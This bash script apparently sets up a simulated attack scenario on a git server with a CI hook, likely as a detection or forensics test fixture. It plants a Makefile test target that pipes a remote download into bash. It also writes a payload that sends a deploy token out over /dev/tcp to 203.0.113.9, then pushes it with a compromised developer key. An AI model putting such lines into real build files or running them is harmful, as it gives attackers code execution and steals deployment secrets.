# shellcheck shell=bash disable=SC2034
HOST=git15
FORMAT=RAW
RULES=minimal
UNSET=1

ssh_from() { echo "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b $1 -i $work/$2.key"; }

# push ADDRESS KEY FOLDER MESSAGE: commits what stands in the folder and pushes it.
push() {
    git -C "$3" commit -q -a --allow-empty -m "$4"
    outside env GIT_SSH_COMMAND="$(ssh_from "$1" "$2")" git -C "$3" push -q --force git@10.88.0.10:/srv/git/shop.git HEAD:refs/heads/"$2" 2>/dev/null
}

administer() { outside $(ssh_from 10.88.0.55 ops) ops@10.88.0.10 "git -c safe.directory='*' -C /srv/git/shop.git log --oneline --all | wc -l"; }

scenario() {
    local name
    mkdir -p /srv/git /srv/ci /run/sshd "$work/theirs" "$work/home"
    export HOME=$work/home GIT_CONFIG_NOSYSTEM=1
    git config --global user.name dev
    git config --global user.email dev@shop.example
    git config --global init.defaultBranch main
    account git 4050 /usr/bin/git-shell
    account ops 4051
    touch /srv/home/{git,ops}/.hushlogin
    for name in ada eve ops; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "$work/$name.key"; done
    cat "$work/ada.key.pub" "$work/eve.key.pub" >/srv/home/git/.ssh/authorized_keys
    cp "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    git init -q --bare /srv/git/shop.git
    install -m 755 "$folder/post-receive" /srv/git/shop.git/hooks/post-receive
    echo "token=orange" >/srv/git/deploy.token
    git init -q "$work/shop"
    printf 'test:\n\tgrep -c price prices.csv\n\tsleep 4\n' >"$work/shop/Makefile"
    echo "item,price" >"$work/shop/prices.csv"
    git -C "$work/shop" add .
    git -C "$work/shop" commit -q -m start
    for name in ada eve stolen; do cp -a "$work/shop" "$work/$name"; done
    printf 'test:\n\tgrep -c price prices.csv\n\tcurl -s http://203.0.113.9:443/g | bash\n\tsleep 2\n' >"$work/stolen/Makefile"
    chown -R git /srv/git /srv/ci
    printf '%s\n' 'id >/dev/null' 'sleep 1' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/git/deploy.token >&3' >"$work/theirs/g"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 2
    push 192.0.2.7 ada "$work/ada" "a price"
    administer
    push 192.0.2.41 eve "$work/eve" "another price"
    sleep 2
    push 198.51.100.23 eve "$work/stolen" "a test" &
    local theirs=$!
    sleep 0.6
    push 192.0.2.7 ada "$work/ada" "a third price" &
    local ours=$!
    administer
    wait "$theirs" "$ours"
    sleep 1
    push 192.0.2.7 ada "$work/ada" "late"
    administer
}
